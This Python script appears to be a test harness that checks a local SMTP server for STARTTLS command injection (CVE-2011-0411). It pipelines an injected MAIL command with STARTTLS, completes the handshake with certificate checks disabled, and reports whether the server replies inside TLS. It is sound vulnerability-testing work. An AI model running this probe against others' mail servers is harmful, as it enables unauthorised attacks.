#!/usr/bin/env python3
# starttls_injection.py: sends a command in the same packet as STARTTLS, completes the TLS handshake, and reports what the server answered after it.
# Usage: starttls_injection.py PORT    (prints one line per step; exit 0 when every step ran)
# The CVE-2011-0411 family: a server that keeps plaintext read before the handshake would
# execute the injected MAIL and send its reply inside the TLS session.
import socket
import ssl
import sys


def read_reply(f):
    lines = []
    while True:
        line = f.readline()
        if not line:
            break
        lines.append(line.decode(errors="replace").rstrip("\r\n"))
        if len(line) >= 4 and line[3:4] == b" ":
            break
    return lines


def main():
    port = int(sys.argv[1])
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    f = raw.makefile("rb")
    print("GREETING", read_reply(f)[-1])
    raw.sendall(b"EHLO client.example\r\n")
    print("EHLO", read_reply(f)[-1])
    raw.sendall(b"STARTTLS\r\nMAIL FROM:<injected@example.org>\r\n")
    # Read the 220 byte by byte: a buffered reader could swallow the TLS bytes that follow.
    line = b""
    while not line.endswith(b"\n"):
        b = raw.recv(1)
        if not b:
            break
        line += b
    print("STARTTLS", line.decode(errors="replace").rstrip("\r\n"))
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    tls = ctx.wrap_socket(raw, server_hostname="localhost")
    print("HANDSHAKE", tls.version())
    # Anything the server sends before we speak is the injected command's reply.
    tls.settimeout(1.0)
    try:
        early = tls.recv(4096)
        print("UNSOLICITED", early.decode(errors="replace").replace("\r\n", "|"))
    except (socket.timeout, TimeoutError):
        print("UNSOLICITED none")
    tls.settimeout(10)
    tf = tls.makefile("rb")
    tls.sendall(b"EHLO client.example\r\n")
    print("EHLO-TLS", read_reply(tf)[-1])
    # A MAIL already in progress would make this one 503 (nested MAIL).
    tls.sendall(b"MAIL FROM:<real@example.org>\r\n")
    print("MAIL-TLS", read_reply(tf)[-1])
    tls.sendall(b"QUIT\r\n")
    print("QUIT", read_reply(tf)[-1])


if __name__ == "__main__":
    main()
